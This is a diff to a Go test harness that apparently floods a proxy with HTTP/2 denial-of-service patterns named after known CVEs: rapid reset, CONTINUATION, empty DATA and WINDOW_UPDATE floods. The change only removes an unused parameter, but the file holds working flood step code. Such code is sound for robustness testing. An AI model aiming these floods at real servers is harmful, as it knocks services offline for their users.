@@ -40,10 +40,10 @@ const steps = 5_000_000
 
 var floods = []flood{
 	{name: "rapid reset (CVE-2023-44487)", streams: 3000, requests: 700, step: func(f *http2.Framer, i uint32) error {
-		return errors.Join(request(f, 2*i+1, false), f.WriteRSTStream(2*i+1, http2.ErrCodeCancel))
+		return errors.Join(request(f, 2*i+1), f.WriteRSTStream(2*i+1, http2.ErrCodeCancel))
 	}},
 	{name: "making the proxy reset (CVE-2025-8671)", streams: 3000, requests: 700, step: func(f *http2.Framer, i uint32) error {
-		return errors.Join(request(f, 2*i+1, false), f.WriteWindowUpdate(2*i+1, 0))
+		return errors.Join(request(f, 2*i+1), f.WriteWindowUpdate(2*i+1, 0))
 	}},
 	{name: "CONTINUATION (CVE-2024-27316)", streams: 1, requests: 1, first: func(f *http2.Framer) error {
 		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(":method", "GET")})
@@ -59,7 +59,7 @@ var floods = []flood{
 		return f.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 0, Weight: uint8(i)})
 	}},
 	{name: "WINDOW_UPDATE", step: func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) }},
-	{name: "empty DATA (CVE-2019-9518)", streams: 1, requests: 1, first: func(f *http2.Framer) error { return request(f, 1, false) },
+	{name: "empty DATA (CVE-2019-9518)", streams: 1, requests: 1, first: func(f *http2.Framer) error { return request(f, 1) },
 		step: func(f *http2.Framer, _ uint32) error { return f.WriteData(1, false, nil) }},
 	{name: "frames of unknown type", step: func(f *http2.Framer, _ uint32) error { return f.WriteRawFrame(99, 0, 0, nil) }},
 }
@@ -75,8 +75,8 @@ func fields(pairs ...string) []byte {
 }
 
 // request opens a stream: on either port something that the proxy does not end by itself.
-func request(f *http2.Framer, id uint32, end bool) error {
-	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true, EndStream: end,
+func request(f *http2.Framer, id uint32) error {
+	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true,
 		BlockFragment: fields(":method", "POST", ":scheme", "http", ":authority", "helloworld:8080", ":path", "/wait")})
 }
 
